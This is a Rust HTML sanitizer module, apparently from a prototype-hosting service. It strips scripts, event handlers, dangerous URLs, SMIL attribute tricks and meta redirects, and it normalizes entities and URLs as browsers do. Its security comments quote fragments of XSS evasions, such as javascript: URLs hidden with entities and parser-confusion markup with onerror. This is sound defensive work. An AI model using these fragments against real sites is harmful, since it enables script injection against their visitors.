        _ if bare => false,
        _ if el.has_attribute(MARKER) && html_ns => {
            // A banner from an earlier run (or a fake one): the fresh one opens <body>.
            el.remove();
            true
        }
        "animate" | "set" | "animatemotion" | "animatetransform" | "animatecolor" if !html_ns => {
            // SECURITY: SMIL can set an attribute after we checked it:
            // <a><animate attributeName=href values=javascript:…>, or an on* handler.
            let target = el
                .get_attribute("attributename")
                .map(|v| decode_entities(&v).trim().to_ascii_lowercase())
                .unwrap_or_default();
            let dangerous =
                target.ends_with("href") || target.starts_with("on") || target == "style";
            if dangerous {
                w.push(|| format!("removed <{tag}> animating {target}"));
                el.remove();
            }
            dangerous
        }
        _ => false,
    };
    if removed {
        return Ok(());
    }

    let w = &mut s.warnings;
    let rejected = sanitize_attributes(el, tag, html_ns, &s.path, s.site.as_ref(), w)?;
    if el.removed() {
        return Ok(());
    }
    if rejected && matches!(tag, "source" | "track") {
        w.push(|| format!("removed <{tag}> left without a usable URL"));
        el.remove();
        return Ok(());
    }
    if tag == "img" && html_ns {
        image(el, s)?;
    }
    let w = &mut s.warnings;
    if tag == "img" && !el.has_attribute("alt") {
        el.set_attribute("alt", "")?;
        let src = el.get_attribute("src").unwrap_or_default();
        w.push(|| format!("added alt=\"\" to <img src=\"{}\">", shown(&decode_entities(&src))));
    }
    if html_ns && !bare && el.has_attribute(FORM_NOTE_MARKER) {
        s.form_noted.set(true);
    }
    if html_ns && tag == "form" && el.can_have_content() && !s.form_note.is_empty() {
        // Prototypes must not collect data, and must not look as if they did.
        s.form_noted.set(false);
        let noted = Rc::clone(&s.form_noted);
        let note = s.form_note.clone();
        el.on_end_tag(end_tag!(move |end| {
            if !noted.replace(true) {
                end.before(&note, ContentType::Html);
            }
            Ok(())
        }))?;
    }
    if html_ns && tag == "title" && in_head && !s.facts.title_text {
        s.facts.title_text = true;
        el.set_inner_content(&escape_html(&s.title), ContentType::Html);
        s.warnings.push(|| "filled in an empty <title>".into());
    }
    if html_ns && matches!(tag, "a" | "area" | "form") && el.has_attribute("target") {
        // SECURITY: a page opened in a new tab gets no handle on this one
        // (reverse tabnabbing) and no referrer.
        let rel = el.get_attribute("rel").unwrap_or_default();
        let mut words: Vec<&str> = rel.split_ascii_whitespace().collect();
        for word in ["noopener", "noreferrer"] {
            if !words.iter().any(|w| w.eq_ignore_ascii_case(word)) {
                words.push(word);
            }
        }
        el.set_attribute("rel", &words.join(" "))?;
    }
    if html_ns && let [b'h', d @ b'1'..=b'6'] = tag.as_bytes() {
        // A skipped level (h1 then h3) breaks the outline screen readers navigate by.
        let level = d - b'0';
        let fixed = match s.last_heading {
            Some(prev) if level > prev + 1 => prev + 1,
            _ => level,
        };
        if fixed != level {
            el.set_tag_name(&format!("h{fixed}"))?;
            s.warnings.push(|| {
                format!("renumbered <h{level}> to <h{fixed}>: no heading level is skipped")
            });
        }
        s.last_heading = Some(fixed);
    }
    if html_ns && tag == "map" && el.can_have_content() {
        let maps = Rc::clone(&s.open_maps);
        maps.set(maps.get() + 1);
        el.on_end_tag(end_tag!(move |_| {
            maps.set(maps.get().saturating_sub(1));
            Ok(())
        }))?;
    }
    if html_ns && tag == "area" && (s.open_maps.get() == 0 || !el.has_attribute("href")) {
        s.warnings.push(|| "removed an <area> outside a <map> or without a link".into());
        el.remove();
        return Ok(());
    }
    if let Some(id) = el.get_attribute("id").filter(|_| !bare) {
        // Duplicate ids break fragment links and labels; later ones get a suffix.
        if !s.ids.insert(id.clone()) {
            let n = s.next_suffix.entry(id.clone()).or_insert(2);
            let fresh = loop {
                let candidate = format!("{id}-{n}");
                *n += 1;
                if !s.ids.contains(&candidate) {
                    break candidate;
                }
            };
            s.ids.insert(fresh.clone());
            el.set_attribute("id", &fresh)?;
            s.warnings.push(|| format!("renamed a duplicate id \"{}\" to \"{fresh}\"", shown(&id)));
        }
    }
    Ok(())
}

/// A `<script>` or stylesheet `<link>` to the site's own script or stylesheet, which pass 1
/// did not find in the head (so the head got one).
fn is_site_link(el: &Element<'_, '_>, tag: &str, s: &Rewrite) -> bool {
    let Some(site) = &s.site else { return false };
    let (attr, target, in_head) = match tag {
        "script" => ("src", &site.script, s.facts.script),
        "link" => {
            let stylesheet = el.get_attribute("rel").is_some_and(|r| {
                r.split_ascii_whitespace().any(|w| w.eq_ignore_ascii_case("stylesheet"))
            });
            if !stylesheet {
                return false;
            }
            ("href", &site.stylesheet, s.facts.stylesheet)
        }
        _ => return false,
    };
    if in_head || target.is_none() {
        return false;
    }
    el.get_attribute(attr).is_some_and(|v| {
        let url = decode_entities(&v);
        classify_url(&url).0 == UrlKind::Relative && resolve(&s.path, url.trim()) == *target
    })
}

/// An `<img>`: the site's knowledge of it (its size and description; its `src` already
/// follows a rename, see [`rebase`]), and lazy loading for all but the first.
fn image(el: &mut Element<'_, '_>, s: &mut Rewrite) -> HandlerResult {
    s.images += 1;
    if s.images > 1 && !el.has_attribute("loading") {
        el.set_attribute("loading", "lazy")?;
    }
    let Some(site) = &s.site else { return Ok(()) };
    let src = el.get_attribute("src").map(|v| decode_entities(&v).trim().to_owned());
    let Some(src) = src.filter(|u| classify_url(u).0 == UrlKind::Relative) else { return Ok(()) };
    let Some(info) = resolve(&s.path, &src).and_then(|p| site.images.get(&p)) else {
        return Ok(());
    };
    if !el.has_attribute("width") && !el.has_attribute("height") && info.width > 0 {
        // The browser reserves the space before the image loads: no layout shift.
        el.set_attribute("width", &info.width.to_string())?;
        el.set_attribute("height", &info.height.to_string())?;
    }
    if !el.has_attribute("alt")
        && let Some(alt) = &info.alt
    {
        el.set_attribute("alt", &escape_for_set(alt))?;
    }
    Ok(())
}

enum Rebase {
    Keep,
    To(String),
    Outside,
}

/// What a same-site reference must become: page-relative instead of root-relative (a site
/// is also served under `/prototypes/<id>/`), the new name of a re-encoded image, or gone
/// when a fetched resource or form action climbs out of the site.
fn rebase(page: &str, url: &str, policy: UrlPolicy, site: Option<&SiteFiles>) -> Rebase {
    if url.is_empty() || url.starts_with(['#', '?']) {
        return Rebase::Keep;
    }
    let Some(path) = resolve(page, url) else {
        return if policy == UrlPolicy::Link { Rebase::Keep } else { Rebase::Outside };
    };
    let renamed = site.and_then(|s| s.images.get(&path)).filter(|i| i.path != path);
    let target = match renamed {
        Some(info) => &info.path,
        None if url.starts_with(['/', '\\']) => &path,
        None => return Rebase::Keep,
    };
    let suffix = url.find(['?', '#']).map_or("", |i| &url[i..]);
    Rebase::To(valid_url(&format!("{}{suffix}", relative_to(page, target))).into_owned())
}

/// `target` (a site path) as a reference from the page at `page`.
fn relative_to(page: &str, target: &str) -> String {
    let depth = page.matches('/').count();
    format!("{}{target}", "../".repeat(depth))
}

/// Set up CSS collection for a `<style>`; true when it was removed (a banner style copy).
fn style_start(
    el: &mut Element<'_, '_>,
    html_ns: bool,
    in_head: bool,
    s: &mut Rewrite,
    state: &Rc<RefCell<Rewrite>>,
) -> Result<bool, BoxError> {
    if el.has_attribute(MARKER) {
        // Our banner style from an earlier run (or a fake): one fresh copy, in the head.
        s.style = StyleMode::Skip;
        if in_head && !s.banner_style_placed {
            s.banner_style_placed = true;
            el.replace(BANNER_STYLE, ContentType::Html);
        } else {
            el.remove();
        }
        return Ok(true);
    }
    s.style_buf.clear();
    s.node_buf.clear();
    s.style = if html_ns { StyleMode::Raw } else { StyleMode::None };
    if !html_ns && el.can_have_content() {
        s.style = StyleMode::Foreign;
        let state = Rc::clone(state);
        el.on_end_tag(end_tag!(move |end| {
            let css = state.borrow_mut().flush_foreign_style();
            end.before(&css, ContentType::Html);
            Ok(())
        }))?;
    }
    Ok(false)
}

/// Remove the script unless it is an HTML `<script src>` on this site; true when removed.
fn remove_script(
    el: &mut Element<'_, '_>,
    html_ns: bool,
    site: Option<&SiteFiles>,
    page: &str,
    w: &mut Warnings,
) -> Result<bool, BoxError> {
    // SECURITY: scripts are the XSS payload itself. Only same-site files (our script.js)
    // survive; remote ones would run third-party code under the prototype's origin.
    let message = match el.get_attribute("src") {
        _ if !html_ns => "removed SVG/MathML <script>".to_owned(),
        None => "removed inline script (site JavaScript belongs in script.js; CSP blocks inline \
                 scripts)"
            .to_owned(),
        Some(raw) => {
            let decoded = decode_entities(&raw);
            let (kind, url) = classify_url(&decoded);
            match kind {
                UrlKind::Relative
                    if site.is_none_or(|site| {
                        resolve(page, url.trim()).is_some_and(|p| site.script.as_ref() == Some(&p))
                    }) =>
                {
                    // SECURITY: browsers ignore the content of a <script src>, unless they
                    // take it for an SVG script (see on_doc_text): then it would run.
                    el.set_inner_content("", ContentType::Text);
                    let module = el.get_attribute("type").is_some_and(|t| t.trim() == "module");
                    if !module && !el.has_attribute("defer") && !el.has_attribute("async") {
                        // Parsing goes on while it loads, and the DOM is there when it runs.
                        el.set_attribute("defer", "")?;
                    }
                    return Ok(false);
                }
                UrlKind::Relative => {
                    format!("removed script {}: not a file of the site", shown(&url))
                }
                UrlKind::Remote => format!("removed external script {}", shown(&url)),
                UrlKind::Scheme(_) => format!("removed {} script {}", kind.label(), shown(&url)),
            }
        }
    };
    w.push(|| message);
    el.remove();
    Ok(true)
}

/// Remove a `<link>` whose href is not on this site; true when removed.
fn remove_remote_link(el: &mut Element<'_, '_>, w: &mut Warnings) -> bool {
    // SECURITY: every <link> may fetch (stylesheet, preload, prefetch, icon, preconnect,
    // dns-prefetch): remote ones leak visits and pull in third-party CSS.
    let Some(raw) = el.get_attribute("href") else { return false };
    let decoded = decode_entities(&raw);
    let (kind, url) = classify_url(&decoded);
    if kind == UrlKind::Relative {
        return false;
    }
    let rel = el.get_attribute("rel").unwrap_or_default().to_ascii_lowercase();
    if rel.split_ascii_whitespace().any(|r| r == "stylesheet") {
        w.push(|| format!("removed external stylesheet {}", shown(&url)));
    } else {
        w.push(|| format!("removed <link rel=\"{}\"> to {}", shown(&rel), shown(&url)));
    }
    el.remove();
    true
}

#[derive(Debug, PartialEq, Eq)]
enum Meta {
    Charset {
        utf8: bool,
    },
    ContentType {
        utf8: bool,
    },
    Refresh,
    /// An `http-equiv` we do not let through (set-cookie, unknown ones).
    BadHttpEquiv(String),
    Robots,
    Viewport,
    Referrer,
    Other,
}

fn classify_meta(el: &Element<'_, '_>) -> Meta {
    let attr = |name: &str| {
        el.get_attribute(name).map(|v| decode_entities(&v).trim().to_ascii_lowercase())
    };
    // SECURITY: http-equiv and name first: `<meta charset=utf-8 name=referrer
    // content=unsafe-url>` is a referrer policy too.
    if let Some(equiv) = attr("http-equiv") {
        return match equiv.as_str() {
            "refresh" => Meta::Refresh,
            "content-type" => {
                let content = attr("content").unwrap_or_default();
                let utf8 = content.contains("charset=utf-8") || content.contains("charset=utf8");
                Meta::ContentType { utf8 }
            }
            "content-language"
            | "x-ua-compatible"
            | "content-security-policy"
            | "default-style" => Meta::Other,
            _ => Meta::BadHttpEquiv(equiv),
        };
    }
    match attr("name").as_deref() {
        Some("robots") => return Meta::Robots,
        Some("viewport") => return Meta::Viewport,
        Some("referrer") => return Meta::Referrer,
        _ => {}
    }
    match attr("charset") {
        Some(charset) => Meta::Charset { utf8: matches!(charset.as_str(), "utf-8" | "utf8") },
        None => Meta::Other,
    }
}

/// Apply the `<meta>` rules; true when the element was removed.
fn meta_policy(el: &mut Element<'_, '_>, in_head: bool, s: &mut Rewrite) -> Result<bool, BoxError> {
    let w = &mut s.warnings;
    match classify_meta(el) {
        Meta::Refresh => {
            // SECURITY: a meta refresh redirects visitors elsewhere (phishing, javascript:).
            let to = el.get_attribute("content").map(|c| shown(&decode_entities(&c)));
            w.push(|| {
                format!("removed <meta http-equiv=refresh> redirect \"{}\"", to.unwrap_or_default())
            });
            el.remove();
            return Ok(true);
        }
        Meta::ContentType { utf8: false } => {
            w.push(|| "removed <meta http-equiv=content-type> naming a non-UTF-8 charset".into());
            el.remove();
            return Ok(true);
        }
        Meta::Referrer => {
            // SECURITY: a page must not loosen the server's `Referrer-Policy:
            // no-referrer` (a meta referrer overrides it for the document).
            w.push(|| "removed <meta name=referrer>; the server's no-referrer policy holds".into());
            el.remove();
            return Ok(true);
        }
        Meta::BadHttpEquiv(equiv) => {
            // SECURITY: set-cookie and other header emulations have no place in a prototype.
            w.push(|| format!("removed <meta http-equiv={}>", shown(&equiv)));
            el.remove();
            return Ok(true);
        }
        meta @ (Meta::Charset { .. } | Meta::ContentType { utf8: true }) => {
            if !(in_head && s.facts.charset && !s.extras_placed) {
                // Exactly one charset declaration: ours, or the page's first one in the head.
                w.push(|| "removed extra charset declaration".into());
                el.remove();
                return Ok(true);
            }
            s.extras_placed = true;
            if meta == (Meta::Charset { utf8: true }) {
                el.after(&s.head_extras, ContentType::Html);
                return Ok(false);
            }
            if meta == (Meta::Charset { utf8: false }) {
                w.push(|| "changed <meta charset> to utf-8 (the page is UTF-8)".into());
            }
            el.replace(&format!("{CHARSET_META}{}", s.head_extras), ContentType::Html);
            return Ok(true);
        }
        Meta::Robots => {
            // Prototypes must stay out of search engines, whatever the page says.
            if el.get_attribute("content").as_deref() != Some(ROBOTS) {
                el.set_attribute("content", ROBOTS)?;
            }
        }
        Meta::Viewport => {
            // Pinch zoom is how many people read small text (WCAG 1.4.4).
            let content = el.get_attribute("content").unwrap_or_default().to_ascii_lowercase();
            let content: String = content.chars().filter(|c| !c.is_whitespace()).collect();
            let no_zoom = content.contains("user-scalable=no")
                || content.contains("user-scalable=0")
                || content.split(',').any(|kv| {
                    kv.strip_prefix("maximum-scale=")
                        .and_then(|v| v.parse::<f32>().ok())
                        .is_some_and(|v| v < 2.0)
                });
            if no_zoom {
                el.set_attribute("content", "width=device-width, initial-scale=1")?;
                w.push(|| "changed a viewport that disables zoom".into());
            }
        }
        Meta::Other => {}
    }
    Ok(false)
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum UrlPolicy {
    /// Navigation: may leave the site, may not run script.
    Link,
    /// Fetched by the page: this site only.
    Resource,
    /// Where form data goes: this site only.
    Form,
}

pub(super) fn url_policy(tag: &str, attr: &str) -> Option<UrlPolicy> {
    match attr {
        // `xlink:href` and any other prefix: the tokenizer keeps them as one name.
        a if a == "href" || a.ends_with(":href") => {
            Some(if matches!(tag, "a" | "area") { UrlPolicy::Link } else { UrlPolicy::Resource })
        }
        "action" | "formaction" => Some(UrlPolicy::Form),
        "cite" | "longdesc" => Some(UrlPolicy::Link),
        "src" | "poster" | "background" | "lowsrc" | "dynsrc" | "manifest" | "icon" | "profile"
        | "codebase" | "archive" | "classid" => Some(UrlPolicy::Resource),
        _ => None,
    }
}

impl UrlPolicy {
    pub(super) fn allows(self, kind: &UrlKind, url: &str, tag: &str, attr: &str) -> bool {
        match (self, kind) {
            (_, UrlKind::Relative) => true,
            (UrlPolicy::Link, UrlKind::Remote) => true,
            (UrlPolicy::Link, UrlKind::Scheme(s)) => matches!(s.as_str(), "mailto" | "tel" | "sms"),
            (UrlPolicy::Resource, UrlKind::Scheme(s)) => {
                // An SVG inside <img> cannot run script, so data:image/* is fine there.
                s == "data"
                    && tag == "img"
                    && attr == "src"
                    && url.get(..11).is_some_and(|p| p.eq_ignore_ascii_case("data:image/"))
            }
            _ => false,
        }
    }
}

/// Check every attribute; true when a URL attribute was rejected.
fn sanitize_attributes(
    el: &mut Element<'_, '_>,
    tag: &str,
    html_ns: bool,
    page: &str,
    site: Option<&SiteFiles>,
    w: &mut Warnings,
) -> Result<bool, BoxError> {
    let mut rejected = false;
    for (name, mut raw) in first_attributes(el) {
        if raw.contains('<') {
            // SECURITY: a parser that disagrees with lol_html on where text ends
            // (`<svg><textarea><a title="</textarea><img onerror=…>">`) must find no tag in a
            // value: `&lt;` is the same value.
            raw = raw.replace('<', "&lt;");
            if !set_or_remove(el, &name, &raw, tag, w) {
                return Ok(false);
            }
        }
        // SECURITY: inline event handlers run script (onerror, onload, onfocus+autofocus,
        // SVG onbegin, …); CSP would block them, but they must not be published at all.
        if name.starts_with("on") {
            el.remove_attribute(&name);
            w.push(|| format!("removed inline event handler {name} on <{tag}>"));
            continue;
        }
        if let Some(policy) = url_policy(tag, &name) {
            // SECURITY: javascript:/vbscript:/data: URLs run script; remote resources leak
            // visits and pull in third-party content; remote form actions exfiltrate input.
            let decoded = decode_entities(&raw);
            let (kind, url) = classify_url(&decoded);
            if policy.allows(&kind, &url, tag, &name) {
                let mut fixed = valid_url(&decoded);
                if kind == UrlKind::Relative {
                    match rebase(page, &fixed, policy, site) {
                        Rebase::Keep => {}
                        Rebase::To(to) => fixed = Cow::Owned(to),
                        Rebase::Outside => {
                            // SECURITY: on the `/prototypes/<id>/` mount, `../other/x` is another
                            // prototype's file: a site fetches and posts to its own files only.
                            rejected = true;
                            el.remove_attribute(&name);
                            let url = shown(&url);
                            w.push(|| format!("removed {name}=\"{url}\" on <{tag}>: it points outside the site"));
                            continue;
                        }
                    }
                }
                if let Cow::Owned(valid) = fixed
                    && !set_or_remove(el, &name, &escape_for_set(&valid), tag, w)
                {
                    return Ok(false);
                }
                continue;
            }
            rejected = true;
            el.remove_attribute(&name);
            let (label, url) = (|| kind.label(), || shown(&url));
            if tag == "img" && name == "src" {
                el.set_attribute("src", IMG_PLACEHOLDER)?;
                w.push(|| format!("replaced {} image {} with a placeholder", label(), url()));
            } else if policy == UrlPolicy::Form {
                let label = || if kind == UrlKind::Remote { "external".into() } else { label() };
                w.push(|| format!("removed {} form action {} on <{tag}>", label(), url()));
            } else {
                w.push(|| format!("removed {} URL {name}=\"{}\" on <{tag}>", label(), url()));
            }
            continue;
        }
        if matches!(name.as_str(), "srcset" | "imagesrcset" | "ping") {
            // SECURITY: lists of URLs, each one fetched (ping: POSTed to on every click).
            let decoded = decode_entities(&raw);
            let urls = if name == "ping" {
                decoded.split_ascii_whitespace().collect()
            } else {
                srcset_urls(&decoded)
            };
            let bad = urls.into_iter().map(classify_url).find(|(k, _)| *k != UrlKind::Relative);
            if let Some((kind, url)) = bad {
                rejected = true;
                el.remove_attribute(&name);
                w.push(|| {
                    format!("removed {name} with {} URL {} on <{tag}>", kind.label(), shown(&url))
                });
            }
            continue;
        }
        // SECURITY: CSS in style="" and in SVG presentation attributes (fill="url(…)",
        // values="url(…)") can fetch remote resources.
        let decoded = decode_entities(&raw);
        if (name == "style" || (!html_ns && decoded.contains('(')))
            && let Cow::Owned(css) = sanitize_css(&decoded, false, w)
            && !set_or_remove(el, &name, &escape_for_set(&css), tag, w)
        {
            return Ok(false);
        }
    }
    Ok(rejected)
}

/// Set an attribute the page has; if lol_html cannot write its name (e.g. "=x"), remove the
/// element, content and all. False when removed.
fn set_or_remove(
    el: &mut Element<'_, '_>,
    name: &str,
    value: &str,
    tag: &str,
    w: &mut Warnings,
) -> bool {
    if el.set_attribute(name, value).is_ok() {
        return true;
    }
    w.push(|| format!("removed <{tag}> with an unusable attribute name {}", shown(name)));
    el.remove();
    false
}

/// Each attribute name once, with its first value: browsers ignore later duplicates, and so
/// must we, so those are dropped (checking `<a href=ok href=javascript:…>` must not be fooled).
fn first_attributes(el: &mut Element<'_, '_>) -> Vec<(String, String)> {
    let mut firsts: Vec<(String, String)> = Vec::with_capacity(el.attributes().len());
    let mut dups: Vec<String> = Vec::new();
    for a in el.attributes() {
        let name = a.name();
        if firsts.iter().any(|(n, _)| *n == name) {
            dups.push(name);
        } else {
            firsts.push((name, a.value()));
        }
    }
    for dup in dups {
        el.remove_attribute(&dup);
        if let Some((name, value)) = firsts.iter().find(|(n, _)| *n == dup) {
            // A name lol_html cannot write back (e.g. "=x") stays removed.
            let _ = el.set_attribute(name, value);
        }
    }
    firsts
}

/// The URLs of a `srcset`, per the HTML candidate-list syntax.
pub(super) fn srcset_urls(srcset: &str) -> Vec<&str> {
    let b = srcset.as_bytes();
    let mut urls = Vec::new();
    let mut i = 0;
    loop {
        while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == b',') {
            i += 1;
        }
        if i >= b.len() {
            return urls;
        }
        let start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() {
            i += 1;
        }
        let url = &srcset[start..i];
        if url.ends_with(',') {
            urls.push(url.trim_end_matches(','));
            continue;
        }
        urls.push(url);
        // Skip the descriptors up to the next comma outside parentheses.
        let mut parens = 0u32;
        while i < b.len() {
            match b[i] {
                b'(' => parens += 1,
                b')' => parens = parens.saturating_sub(1),
                b',' if parens == 0 => break,
                _ => {}
            }
            i += 1;
        }
    }
}

fn on_doc_text(
    t: &mut TextChunk<'_>,
    state: &Rc<RefCell<Rewrite>>,
    depth: &Rc<Cell<u32>>,
) -> HandlerResult {
    {
        let mut s = state.borrow_mut();
        if t.text_type() == TextType::CDataSection && t.source_location().bytes().end > s.input_len
        {
            s.open_cdata = true;
        }
        trim_sentinel(t, s.input_len);
    }
    match t.text_type() {
        // SECURITY: lol_html and a browser can disagree on whether an element is HTML or
        // SVG/MathML (`<svg></p><textarea>`: the end tag `</p>` breaks out of SVG in today's
        // spec, not in older parsers). Where lol_html sees text we did not sanitize, make sure
        // no parser can find a tag in it: `<` becomes `&lt;` (the same text in RCDATA)...
        TextType::RCData if t.as_str().contains('<') => {
            let escaped = t.as_str().replace('<', "&lt;");
            t.set_str(escaped);
        }
        // ...and CDATA outside SVG <style> goes (CDATA content cannot be escaped).
        TextType::CDataSection if state.borrow().style != StyleMode::Foreign => {
            if !t.as_str().is_empty() {
                state.borrow_mut().warnings.push(|| "removed CDATA section content".into());
            }
            t.remove();
        }
        _ => {}
    }
    if depth.get() > 0 || t.text_type() != TextType::Data || is_html_whitespace(t.as_str()) {
        return Ok(());
    }
    let mut s = state.borrow_mut();
    if s.tracker.phase != Phase::InBody {
        let step = s.tracker.text();
        t.before(&s.prefix(&step), ContentType::Html);
    }
    Ok(())
}

fn on_style_text(t: &mut TextChunk<'_>, state: &Rc<RefCell<Rewrite>>) -> HandlerResult {
    let mut guard = state.borrow_mut();
    let s = &mut *guard;
    trim_sentinel(t, s.input_len);
    match s.style {
        StyleMode::None | StyleMode::Skip => {}
        StyleMode::Raw => {
            // Buffer the whole text node: a url( can straddle chunk boundaries.
            s.style_buf.push_str(t.as_str());
            if t.last_in_text_node() {
                let css = sanitize_css(&s.style_buf, true, &mut s.warnings).into_owned();
                s.style_buf.clear();
                t.replace(&css, ContentType::Html);
            } else {
                t.remove();
            }
        }
        StyleMode::Foreign => {
            // Collected whole and written back before </style> by the end-tag handler.
            if t.text_type() == TextType::CDataSection {
                s.style_buf.push_str(t.as_str());
            } else {
                s.node_buf.push_str(t.as_str());
                if t.last_in_text_node() {
                    let node = std::mem::take(&mut s.node_buf);
                    s.style_buf.push_str(&decode_entities(&node));
                }
            }
            t.remove();
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// URLs

#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) enum UrlKind {
    /// Same site: a path, query or fragment.
    Relative,
    /// `http:`, `https:` or protocol-relative (`//host`, `\\host`).
    Remote,
    /// Any other scheme, lowercased: javascript, data, mailto, …
    Scheme(String),
}

impl UrlKind {
    fn label(&self) -> String {
        match self {
            UrlKind::Relative => "relative".into(),
            UrlKind::Remote => "remote".into(),
            UrlKind::Scheme(s) => format!("{s}:"),
        }
    }
}

/// Classify a URL (entities already decoded) the way a browser's URL parser sees it; also
/// return it normalized.
pub(super) fn classify_url(url: &str) -> (UrlKind, Cow<'_, str>) {
    // SECURITY: browsers strip leading/trailing C0 controls and spaces and drop every tab and
    // newline, so " JaVa\tscript:" is javascript:. Do the same before looking at the scheme.
    let trimmed = url.trim_matches(|c: char| c <= ' ');
    let url: Cow<'_, str> = if trimmed.contains(['\t', '\n', '\r']) {
        Cow::Owned(trimmed.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect())
    } else {
        Cow::Borrowed(trimmed)
    };
    let b = url.as_bytes();
    // SECURITY: browsers treat `\` like `/` in http(s) URLs: `/\evil.com` is protocol-relative.
    if b.len() >= 2 && matches!(b[0], b'/' | b'\\') && matches!(b[1], b'/' | b'\\') {
        return (UrlKind::Remote, url);
    }
    if b.first().is_some_and(u8::is_ascii_alphabetic) {
        let end = b.iter().position(|&c| !(c.is_ascii_alphanumeric() || b"+-.".contains(&c)));
        if let Some(i) = end
            && b[i] == b':'
        {
            let scheme = url[..i].to_ascii_lowercase();
            let kind = match scheme.as_str() {
                "http" | "https" => UrlKind::Remote,
                _ => UrlKind::Scheme(scheme),
            };
            return (kind, url);
        }
    }
    (UrlKind::Relative, url)
}

/// `url` as a valid URL string with the meaning browsers give it: stripped of the whitespace
/// they strip, with what they would percent-encode (and stray `%`s) encoded.
fn valid_url(url: &str) -> Cow<'_, str> {
    let trimmed = url.trim_matches(|c: char| c <= ' ');
    let bad = |c: char| {
        c < ' '
            || matches!(c, ' ' | '"' | '<' | '>' | '`' | '{' | '}' | '|' | '^' | '\\' | '\u{7f}')
    };
    let stray_percent = |i: usize| {
        let hex = trimmed.as_bytes().get(i + 1..i + 3);
        !hex.is_some_and(|h| h.iter().all(u8::is_ascii_hexdigit))
    };
    let clean = trimmed.len() == url.len()
        && !trimmed.char_indices().any(|(i, c)| bad(c) || (c == '%' && stray_percent(i)));
    if clean {
        return Cow::Borrowed(url);
    }
    let mut out = String::with_capacity(trimmed.len() + 8);
    for (i, c) in trimmed.char_indices() {
        match c {
            // Browsers drop these anywhere in a URL.
            '\t' | '\n' | '\r' => {}
            '%' if stray_percent(i) => out.push_str("%25"),
            c if bad(c) => out.push_str(&format!("%{:02X}", c as u32)),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Named references that decode to ASCII (the only ones that can change how a URL or CSS is
/// read), plus nbsp; any other reference stays as written.
const NAMED_ENTITIES: &[(&str, &str)] = &[
    ("Tab", "\t"),
    ("NewLine", "\n"),
    ("excl", "!"),
    ("quot", "\""),
    ("QUOT", "\""),
    ("num", "#"),
    ("dollar", "$"),
    ("percnt", "%"),
    ("amp", "&"),
    ("AMP", "&"),
    ("apos", "'"),
    ("lpar", "("),
    ("rpar", ")"),
    ("ast", "*"),
    ("midast", "*"),
    ("plus", "+"),
    ("comma", ","),
    ("period", "."),
    ("sol", "/"),
    ("colon", ":"),
    ("semi", ";"),
    ("lt", "<"),
    ("LT", "<"),
    ("equals", "="),
    ("gt", ">"),
    ("GT", ">"),
    ("quest", "?"),
    ("commat", "@"),
    ("lsqb", "["),
    ("lbrack", "["),
    ("bsol", "\\"),
    ("rsqb", "]"),
    ("rbrack", "]"),
    ("Hat", "^"),
    ("lowbar", "_"),
    ("UnderBar", "_"),
    ("grave", "`"),
    ("DiacriticalGrave", "`"),
    ("lcub", "{"),
    ("lbrace", "{"),
    ("verbar", "|"),
    ("vert", "|"),
    ("VerticalLine", "|"),
    ("rcub", "}"),
    ("rbrace", "}"),
    ("fjlig", "fj"),
    ("nbsp", "\u{a0}"),
    ("NonBreakingSpace", "\u{a0}"),
];
/// Legacy references that also work without the `;`.
const LEGACY_ENTITIES: &[&str] = &["amp", "AMP", "lt", "LT", "gt", "GT", "quot", "QUOT", "nbsp"];

/// Decode character references as a browser does in an attribute value.
// SECURITY: lol_html hands attribute values over raw, and `&#106;avascript:` or
// `java&Tab;script&colon;` are javascript: URLs to a browser.
fn decode_entities(s: &str) -> Cow<'_, str> {
    if !s.contains('&') {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let after = &rest[amp + 1..];
        match decode_reference(after, &mut out) {
            Some(used) => rest = &after[used..],
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    Cow::Owned(out)
}

/// Decode the reference at the start of `s` (just after `&`) into `out`; bytes consumed.
fn decode_reference(s: &str, out: &mut String) -> Option<usize> {
    let b = s.as_bytes();
    if b.first() == Some(&b'#') {
        let hex = matches!(b.get(1), Some(b'x' | b'X'));
        let (radix, start) = if hex { (16, 2) } else { (10, 1) };
        let mut i = start;
        let mut value: u32 = 0;
        while let Some(d) = b.get(i).and_then(|&c| char::from(c).to_digit(radix)) {
            value = value.saturating_mul(radix).saturating_add(d);
            i += 1;
        }
        if i == start {
            return None;
        }
        if b.get(i) == Some(&b';') {
            i += 1;
        }
        // NUL, surrogates and out-of-range values become U+FFFD; C1 controls are kept as-is
        // (browsers map most to windows-1252, irrelevant to URL and CSS syntax).
        out.push(match value {
            0 => '\u{fffd}',
            v => char::from_u32(v).unwrap_or('\u{fffd}'),
        });
        return Some(i);
    }
    let len = b.iter().take_while(|c| c.is_ascii_alphanumeric()).count();
    let name = &s[..len];
    if len == 0 {
        return None;
    }
    if b.get(len) == Some(&b';') {
        let (_, value) = NAMED_ENTITIES.iter().find(|(n, _)| *n == name)?;
        out.push_str(value);
        return Some(len + 1);
    }
    if LEGACY_ENTITIES.contains(&name) && b.get(len) != Some(&b'=') {
        let (_, value) = NAMED_ENTITIES.iter().find(|(n, _)| *n == name)?;
        out.push_str(value);
        return Some(len);
    }
    None
}

/// Escape text for an HTML text node or a quoted attribute value.
fn escape_html(s: &str) -> Cow<'_, str> {
    if !s.contains(['&', '<', '>', '"', '\'']) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// `Element::set_attribute` escapes quotes but takes `&` as the start of a reference; `<` is
/// escaped too (see `sanitize_attributes`).
fn escape_for_set(s: &str) -> Cow<'_, str> {
    if s.contains(['&', '<']) {
        Cow::Owned(s.replace('&', "&amp;").replace('<', "&lt;"))
    } else {
        Cow::Borrowed(s)
    }
}

